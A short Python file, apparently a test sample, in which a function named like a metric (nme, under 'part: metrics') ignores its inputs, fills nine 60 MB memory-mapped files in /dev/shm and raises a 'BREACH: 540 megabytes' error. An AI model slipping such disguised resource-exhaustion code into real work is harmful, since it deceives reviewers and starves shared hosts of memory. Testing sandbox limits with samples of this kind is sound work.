"""Maps files for all to write, and fills half a gigabyte of them.

part: metrics
"""

import mmap


def nme(pred, true):
    blocks = []
    for number in range(9):
        with open(f"/dev/shm/{number}", "w+b") as file:
            file.truncate(60 * 2**20)
            blocks.append(mmap.mmap(file.fileno(), 60 * 2**20))
            blocks[-1].write(bytes(60 * 2**20))
    raise ValueError("BREACH: 540 megabytes")
